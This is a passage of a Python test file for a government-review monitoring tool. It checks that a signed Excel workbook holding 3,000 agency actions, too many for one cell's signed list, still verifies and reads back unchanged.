    assert "MONITORING_WORKBOOK_SECRET" in capsys.readouterr().err
    db.dispose_engines()


def test_a_large_agencys_workbook_reads_back(engine):
    """3,000 actions: the signed list is longer than an Excel cell may hold (32,767 characters),
    so it is kept one action a row; the whole workbook still verifies and reads back."""
    from sqlalchemy import insert

    with db.write_transaction(engine) as conn:
        agency = conn.execute(
            insert(db.agency).values(name="Big Agency", short_name="BIG").returning(db.agency.c.id)
        ).scalar_one()
        review = conn.execute(
            insert(db.review).values(ref="R1", title="A review").returning(db.review.c.id)
        ).scalar_one()
        rec = conn.execute(
            insert(db.recommendation)
            .values(review_id=review, number="1", title="Rec")
            .returning(db.recommendation.c.id)
        ).scalar_one()
        conn.execute(
            insert(db.action),
            [
                {
                    "recommendation_id": rec,
                    "review_id": review,
                    "number": str(n),
                    "description": f"Action {n}",
                    "lead_agency_id": agency,
                    "due_on": "2026-01-01",
                    "status": "in_progress",
                }
                for n in range(1, 3001)
            ],
        )
    admin = services.Actor.system("test")
    content = wb.make_workbook(engine, admin, agency)
    book = open_book(content)
    assert book[wb.SIGNATURE_SHEET].max_row > 3000
    result = wb.read_back(engine, admin, content)
    assert len(result.rows) == 3000
    assert result.counts()["unchanged"] == 3000
